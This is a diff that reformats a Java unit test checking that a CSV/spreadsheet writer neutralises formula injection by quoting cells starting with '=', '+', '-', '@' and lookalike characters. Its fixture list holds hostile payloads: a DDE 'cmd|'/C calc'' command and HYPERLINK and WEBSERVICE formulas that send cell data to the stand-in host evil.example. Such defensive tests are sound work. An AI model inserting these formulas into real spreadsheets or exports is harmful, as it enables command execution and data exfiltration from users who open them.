@@ -15,13 +15,26 @@ class SheetTest {
     private static final int CELLS = 10_000;
 
     private static final List<String> STARTS = List.of(
-            "=", "+", "-", "@", "\t", "\r", "\n", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", " =", "\u00A0=", "\u200B=", "\uFEFF+",
-            "\u202E@", "\u3000-", "\t=", "\r\n=", "\u0000=", "|", "%", "\u2212", "\uFE63", "\uFE62", "\uFE66", "\uFE6B", "\"=",
-            "'=", ",=", ";=", "=\"");
+            "=", "+", "-", "@", "\t", "\r", "\n", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20", " =", "\u00A0=", "\u200B=",
+            "\uFEFF+", "\u202E@", "\u3000-", "\t=", "\r\n=", "\u0000=", "|", "%", "\u2212", "\uFE63", "\uFE62",
+            "\uFE66", "\uFE6B", "\"=", "'=", ",=", ";=", "=\"");
 
     private static final List<String> RESTS = List.of(
-            "cmd|'/C calc'!A0", "HYPERLINK(\"https://evil.example?\"&A1,\"x\")", "1+1", "SUM(A1:A9)", "2", "A1", "\"\"", ",=1+1",
-            "\r\n=1+1", "\";=1+1;\"", "WEBSERVICE(\"https://evil.example\")", "-1", "", " ", "äöü");
+            "cmd|'/C calc'!A0",
+            "HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
+            "1+1",
+            "SUM(A1:A9)",
+            "2",
+            "A1",
+            "\"\"",
+            ",=1+1",
+            "\r\n=1+1",
+            "\";=1+1;\"",
+            "WEBSERVICE(\"https://evil.example\")",
+            "-1",
+            "",
+            " ",
+            "äöü");
 
     /** As a careful spreadsheet reads: what is not seen is passed over, wide signs count as narrow ones. */
     private static boolean isActive(String cell) {
@@ -47,12 +60,10 @@ class SheetTest {
         var written = new String(new Sheet("doors", List.of("who", "=what", "chairs"), rows).bytes(), UTF_8);
         assertThat(written).startsWith("\uFEFF\"who\",\"'=what\",\"chairs\"\r\n");
         var back = new ArrayList<String>();
-        CsvReader.builder()
-                .ofCsvRecord(written.substring(1))
-                .forEach(record -> {
-                    assertThat(record.getFieldCount()).as(record.toString()).isEqualTo(3);
-                    back.add(record.getField(1));
-                });
+        CsvReader.builder().ofCsvRecord(written.substring(1)).forEach(record -> {
+            assertThat(record.getFieldCount()).as(record.toString()).isEqualTo(3);
+            back.add(record.getField(1));
+        });
         return back.subList(1, back.size());
     }
 
